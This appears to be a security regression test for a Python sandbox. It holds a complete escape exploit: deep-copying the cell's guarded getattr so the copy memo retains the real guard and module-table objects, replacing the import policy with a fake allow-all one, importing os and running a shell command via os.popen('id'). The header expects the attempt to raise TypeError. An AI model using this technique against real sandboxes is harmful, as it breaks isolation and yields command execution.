# source: new: internal security review 2 (finding 1): copy.deepcopy memo keeps the originals it copied, the cell's guards among them
# goal: the Guards object, then a fake policy and real os
# expect: raises TypeError
# deepcopy(x, memo) keeps every *original* object it copied alive in memo[id(memo)].
# Deep-copying the cell's own `getattr` (a bound method of Guards) walks Guards -> namespace ->
# builtins dict -> ModuleTable -> Cell, so the memo ends up holding the real Guards, Cell,
# ModuleTable objects and their real __dict__s. Swap the ModuleTable's policy -> import os.
import copy

def idof(o):  # id() from the default object hash: hash(o) == rotate_right(id(o), 4)
    h = hash(o) % 2**64
    return ((h << 4) | (h >> 60)) % 2**64

memo = {idof(copy): copy}          # module views cannot be copied: pre-seed the memo
copy.deepcopy(getattr, memo)       # `getattr` is Guards.getattr, a bound method

class Grant:
    attributes = None              # None = every public name of the real module
class AnyPolicy:
    module_names = ()
    def module(self, name):
        return Grant()

for kept in memo.values():
    if type(kept) is list:
        for original in kept:
            if type(original) is dict and 'views' in original and 'policy' in original:
                original['policy'] = AnyPolicy()   # the real ModuleTable.__dict__

import os
print(os.popen('id').read())
ESCAPED = os
